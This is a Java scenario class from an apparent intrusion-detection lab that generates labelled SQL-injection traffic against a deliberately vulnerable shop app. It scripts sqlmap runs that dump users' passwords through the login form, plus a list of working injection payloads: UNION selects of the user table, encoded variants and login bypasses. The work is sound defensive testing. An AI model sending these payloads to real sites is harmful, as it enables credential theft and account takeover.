package gatewatch.sensor.lab.scenario.attack;

import gatewatch.features.truth.TruthCategory;
import gatewatch.sensor.lab.CommandResult;
import gatewatch.sensor.lab.LabException;
import gatewatch.sensor.lab.scenario.LabRun;
import gatewatch.sensor.lab.scenario.Tool;
import gatewatch.sensor.lab.scenario.Tools;
import gatewatch.sensor.lab.service.VulnWebApp;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/**
 * SQL injection by other techniques and through another entry point than
 * {@link R2lSqlInjection}'s sqlmap on the search page, labelled r2l/sql_injection as well. An
 * attacker with a shop account of its own ({@link VulnWebApp#CUSTOMER2}) first runs sqlmap on the POST login form:
 * boolean-blind at level 2 on {@code user}, dumping the users' names and passwords; then
 * time-based blind (SQLite's heavy-query delay, level 3, risk 2) on {@code pass}, finding it
 * only. Then a person tries by hand with curl, a request a connection at typing pauses: quotes,
 * {@code ' OR '1'='1}, {@code ORDER BY n--} to count the columns, UNION SELECTs of the version,
 * the schema and the users, comment and case tricks, URL- and double-encoded variants on the
 * search page's {@code q}, and the classic login bypasses on the form. Customers visit before
 * and after: normal.
 */
public final class R2lSqlInjectionForms extends WebAttackScenario {
    static final List<Probe> PROBES = List.of(
            Probe.search("lamp'", false),
            Probe.search("lamp' OR '1'='1", false),
            Probe.search("' OR 1=1--", false),
            Probe.search("lamp' ORDER BY 1--", false),
            Probe.search("lamp' ORDER BY 3--", false),
            Probe.search("lamp' ORDER BY 4--", false),
            Probe.search("' UNION SELECT 1,2,3--", false),
            Probe.search("' UNION SELECT 1,sqlite_version(),3--", false),
            Probe.search("' UNION SELECT 1,name,sql FROM sqlite_master WHERE type='table'--", false),
            Probe.search("' UNION SELECT id,name,password FROM users--", false),
            Probe.search("'/**/UnIoN/**/SeLeCt/**/id,name||':'||password,email/**/FROM/**/users/*", false),
            Probe.search("%27%20OR%20%271%27%3D%271", true),
            Probe.search("%27%20UNION%20SELECT%20id%2Cname%2Cpassword%20FROM%20users--", true),
            Probe.search("%2527%2520UNION%2520SELECT%2520id%252Cname%252Cpassword%2520FROM%2520users--", true),
            Probe.login("admin'--", "x"),
            Probe.login("' OR '1'='1' --", "x"),
            Probe.login("admin", "' OR ''='"));

    /**
     * One manual request.
     *
     * @param login      POST to the login form ({@code value} is the user, {@code password} the password), else GET of search
     * @param value      the search term or the user name
     * @param password   the password, login only
     * @param preEncoded the value is already URL-encoded as typed (curl must not encode it again)
     */
    record Probe(boolean login, String value, String password, boolean preEncoded) {
        static Probe search(String q, boolean preEncoded) {
            return new Probe(false, q, null, preEncoded);
        }

        static Probe login(String user, String password) {
            return new Probe(true, user, password, false);
        }

        /** The curl arguments after the program: one request, one connection, the page to standard output. */
        List<String> curlArgs(String base) {
            if (login) {
                return List.of("-sS", "--data-urlencode", "user=" + value, "--data-urlencode", "pass=" + password, base + "/login.php");
            }
            if (preEncoded) {
                return List.of("-sS", base + "/search.php?q=" + value);
            }
            return List.of("-sS", "-G", "--data-urlencode", "q=" + value, base + "/search.php");
        }
    }

    public R2lSqlInjectionForms() {
        super(TruthCategory.R2L, "sql_injection");
    }

    @Override
    public String name() {
        return "r2l-sql-injection-forms";
    }

    @Override
    public String summary() {
        return "r2l/sql_injection: sqlmap on the shop's POST login form (boolean-blind level 2 dumping users, time-based level 3), then "
                + PROBES.size() + " hand-typed curl injections (OR, ORDER BY, UNION, comments, encodings); customers (normal)";
    }

    @Override
    List<Tool> attackTools() {
        return List.of(R2lSqlInjection.SQLMAP);
    }

    @Override
    void attack(LabRun lab, VulnWebApp app, String attacker) throws IOException {
        Path booleanTraffic = lab.workDir().resolve("sqlmap-boolean.txt");
        String out = lab.client("sqlmap-boolean", Duration.ofSeconds(90), sqlmap(lab, "user", booleanTraffic,
                List.of("--technique=B", "--level=2", "--risk=1", "-T", "users", "-C", "name,password", "--dump"))).requireOk().output();
        if (!out.contains(VulnWebApp.ADMIN_PASSWORD)) {
            throw new LabException("sqlmap did not dump the users through the login form (no admin password in its output): "
                    + CommandResult.tail(out));
        }
        long booleanRequests = requests(booleanTraffic);
        lab.pause(Duration.ofSeconds(1), Duration.ofSeconds(2));
        Path timeTraffic = lab.workDir().resolve("sqlmap-time.txt");
        String timeOut = lab.client("sqlmap-time", Duration.ofSeconds(90), sqlmap(lab, "pass", timeTraffic,
                List.of("--technique=T", "--level=3", "--risk=2", "--time-sec=1"))).requireOk().output();
        if (!timeOut.contains("time-based blind")) {
            throw new LabException("sqlmap found no time-based blind injection in the login form's pass: " + CommandResult.tail(timeOut));
        }
        long timeRequests = requests(timeTraffic);
        lab.pause(Duration.ofSeconds(1), Duration.ofSeconds(2));
        int leaked = 0;
        int bypassed = 0;
        for (int i = 0; i < PROBES.size(); i++) {
            Probe p = PROBES.get(i);
            List<String> c = new ArrayList<>(List.of(lab.path(Tools.CURL)));
            c.addAll(p.curlArgs(VulnWebApp.url(lab)));
            String page = lab.client("manual" + i, Duration.ofSeconds(20), c).requireOk().output();
            leaked += page.contains(VulnWebApp.ADMIN_PASSWORD) ? 1 : 0;
            bypassed += p.login() && page.contains("Welcome") ? 1 : 0;
            lab.pause(Duration.ofMillis(1000), Duration.ofMillis(3000));
        }
        lab.report("sqlmap_boolean_requests", booleanRequests);
        lab.report("sqlmap_time_requests", timeRequests);
        lab.report("manual_requests", PROBES.size());
        lab.report("manual_pages_with_admin_password", leaked);
        lab.report("manual_logins_bypassed", bypassed);
        lab.report("requests", booleanRequests + timeRequests + PROBES.size());
    }

    private static List<String> sqlmap(LabRun lab, String parameter, Path trafficFile, List<String> techniqueArgs) {
        return sqlmap(lab.path(R2lSqlInjection.SQLMAP), VulnWebApp.url(lab), lab.workDir(), parameter, trafficFile, techniqueArgs);
    }

    /**
     * sqlmap on the login form with the attacker's own (valid) account as the original values, so
     * that a true condition keeps the page ("Welcome") and a false one changes it.
     */
    static List<String> sqlmap(String program, String base, Path workDir, String parameter, Path trafficFile, List<String> techniqueArgs) {
        List<String> c = new ArrayList<>(List.of(program, "-u", base + "/login.php",
                "--data", "user=" + VulnWebApp.CUSTOMER2 + "&pass=" + VulnWebApp.CUSTOMER2_PASSWORD, "-p", parameter, "--batch",
                "--dbms=SQLite", "--threads=1", "--timeout=10", "--retries=1", "--flush-session", "--disable-coloring",
                "--disable-precon", "--output-dir=" + workDir.resolve("sqlmap-" + parameter), "-t", trafficFile.toString()));
        c.addAll(techniqueArgs);
        return c;
    }

    private static long requests(Path traffic) throws IOException {
        long n = R2lSqlInjection.requests(Files.readString(traffic));
        if (n == 0) {
            throw new LabException("sqlmap's traffic file " + traffic + " holds no request");
        }
        return n;
    }
}
